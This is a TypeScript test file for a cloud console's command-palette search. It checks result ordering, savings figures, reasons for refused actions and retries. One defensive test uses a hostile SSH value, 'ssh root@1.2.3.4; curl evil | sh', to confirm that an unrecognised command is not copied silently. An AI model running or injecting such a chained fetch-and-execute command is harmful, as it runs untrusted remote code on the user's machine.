import { expect, test } from 'vitest'
import * as z from 'zod/mini'

import { instanceSchema } from '#contract/instance.ts'
import { checkAction } from '#model/instance/actions.ts'

import type { CommandSource } from './commands.ts'
import { findCommands } from './find-commands.ts'

const instance = (name: string, state: string, fields: Record<string, unknown> = {}) =>
  z.parse(instanceSchema, {
    uuid: `u-${name}`,
    name,
    state,
    resource_type: 'container',
    flavor: 'rstudioserver',
    ...fields,
  })

const source: CommandSource = {
  pages: [{ to: '/costs', label: 'Costs', icon: 'costs' }],
  instances: [
    instance('rna-atlas', 'running', {
      ssh_command: 'ssh -p 30140 ccloud@login.carolinacloud.io',
      webapp_url: 'https://rna-atlas.carolinacloud.io',
    }),
    instance('atlas-old', 'exited'),
  ],
  here: null,
  recipes: [{ name: 'Weekly run', search: 'flavor=marimo' }],
  accounts: [{ id: 'c-2', name: 'Lab', hint: '····1a2b' }],
  unconfirmed: [],
  disabledReason: (action, instance) => {
    const verdict = checkAction(action, instance)
    return verdict.allowed ? undefined : verdict.reason
  },
}
const find = (query: string, from = source) => findCommands(from, query)
const labels = (query: string) => find(query).map(({ label }) => label)

test('without words it offers where one can go, with words everything that matches', () => {
  expect(labels('')).toEqual(['rna-atlas', 'atlas-old', 'Costs'])
  expect(labels('cos')).toEqual(['Costs'])
  expect(labels('stop rna')).toEqual(['Stop rna-atlas'])
})

test('on the page of an instance what can be done there comes first, and nothing that cannot', () => {
  const [here = null] = source.instances
  const found = findCommands({ ...source, here }, '')
  expect(found.filter(({ group }) => group === 'rna-atlas').map(({ label }) => label)).toEqual([
    'Open RStudio',
    'Copy SSH command',
    'Stop…',
    'Resize…',
    'Rename…',
    'Delete…',
    'Create one like it',
  ])
  expect(found.slice(7).map(({ label }) => label)).toEqual(['atlas-old', 'Costs'])
})

test('actions of a kind are ordered by what they save, and that is said', () => {
  const instances = [0.1, 0.9, 0.5].map((rate, index) =>
    instance(`box-${index}`, 'running', {
      n_vcpus: 1,
      mem_gib: 1,
      disk_size_gib: 10,
      n_gpus: 0,
      vcpu_cost_hourly_usd: rate,
      ram_cost_hourly_usd: 0.001,
      storage_cost_hourly_usd: 0.001,
    }),
  )
  const found = find('stop', { ...source, instances })
  expect(found.map(({ label, figure }) => [label, figure])).toEqual([
    ['Stop box-1', 'saves $0.901 / h'],
    ['Stop box-2', 'saves $0.501 / h'],
    ['Stop box-0', 'saves $0.101 / h'],
  ])
  expect(new Set(found.map(({ group }) => group))).toEqual(new Set(['Stop an instance']))
  const [here = null] = instances
  expect(find('stop', { ...source, instances, here })[0]?.label).toBe('Stop box-0')
})

test('what is found of one instance alone stands under its name', () => {
  const groups = new Set(find('rna').map(({ group }) => group))
  expect([...groups]).toEqual(['Instances', 'rna-atlas'])
})

test('an action that is refused is never replaced by another one', () => {
  expect(labels('stop atlas-old')).toEqual(['Stop atlas-old', 'atlas-old'])
})

test('what begins with the query comes first, what is refused last and with its sentence', () => {
  expect(labels('atlas').slice(0, 2)).toEqual(['atlas-old', 'rna-atlas'])
  const [allowed, refused] = find('restart atlas')
  expect([allowed?.label, allowed?.disabledReason]).toEqual(['Restart atlas-old', null])
  expect(refused?.disabledReason).toContain('Only a stopped instance can be restarted')
})

test.each([
  ['stop atlas-old', 'Only a running instance can be stopped; this one is stopped.'],
  ['open a port of rna', 'Ports belong to virtual machines; this is a container and has no public address.'],
  ['copy ssh atlas-old', 'It has no SSH address yet.'],
  ['open rstudio on atlas-old', 'Stopped: restart it to open RStudio.'],
])('“%s” says why not', (query, sentence) => {
  expect(find(query)[0]?.disabledReason).toBe(sentence)
})

test.each([
  ['switch to lab', { kind: 'switch', account: 'c-2' }],
  ['dark', { kind: 'theme', theme: 'dark' }],
  ['weekly', { kind: 'go', to: '/instances/new?flavor=marimo' }],
  ['create one like rna', { kind: 'go', to: '/instances/new?resource_type=container&flavor=rstudioserver' }],
  ['open rstudio', { kind: 'open', url: 'https://rna-atlas.carolinacloud.io/' }],
  ['ssh rna', { kind: 'copySsh', instance: source.instances[0] }],
])('“%s” is a command too', (query, run) => {
  expect(find(query)[0]?.run).toEqual(run)
})

test('an SSH command that is not understood is not copied unseen', () => {
  const odd = instance('odd', 'running', { ssh_command: 'ssh root@1.2.3.4; curl evil | sh' })
  expect(find('ssh odd', { ...source, instances: [odd] })[0]?.disabledReason).toContain('Read it on its page')
})

test('a restart, which asks nothing, says what it costs', () => {
  const priced = instance('atlas-old', 'exited', { n_vcpus: 2, vcpu_cost_hourly_usd: 0.05 })
  const [restart] = find('restart atlas', { ...source, instances: [priced] })
  expect(restart?.price).toContain('Compute billing resumes at once')
  expect(find('stop rna')[0]?.price).toBeNull()
})

test('a fleet of thousands gives no more than fifty lines', () => {
  const instances = Array.from({ length: 2000 }, (_, index) => instance(`node-${index}`, 'running'))
  const found = find('node', { ...source, instances })
  expect(found).toHaveLength(50)
  expect(found[0]?.label).toBe('node-0')
  expect(find('stop node-1999', { ...source, instances })[0]?.label).toBe('Stop node-1999')
})

test('what is not known to have happened can be tried again', () => {
  const unconfirmed = {
    id: 7,
    request: { action: 'stop', uuid: 'u-rna-atlas', name: 'rna-atlas' },
    status: 'overdue',
    answeredAt: 0,
    error: null,
    reason: null,
    runId: null,
    lookUp: null,
    wasLost: false,
  } as const
  const [found] = find('try again rna', { ...source, unconfirmed: [unconfirmed] })
  expect(found).toMatchObject({ label: 'Try again: rna-atlas', run: { kind: 'retry', operation: 7 } })
})
